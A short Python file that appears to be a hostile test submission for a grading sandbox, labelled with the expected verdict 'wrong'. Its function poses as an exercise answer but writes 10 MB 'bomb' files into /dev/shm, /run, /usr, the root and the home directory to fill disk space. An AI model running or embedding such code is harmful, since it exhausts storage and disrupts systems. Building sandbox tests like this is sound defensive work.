"""Fills what else is there to be filled.

Verdict: wrong
"""

import os


def kind(n, ranks):
    written = 0
    for folder in (
        "/dev/shm",
        "/dev/mqueue",
        "/var/tmp",
        "/run",
        "/",
        "/kata",
        "/usr",
        "/proc",
        os.path.expanduser("~"),
    ):
        try:
            with open(f"{folder}/bomb", "wb") as file:
                written += file.write(bytes(10_000_000))
        except OSError:
            pass
    return ranks[0] if written else "nothing"
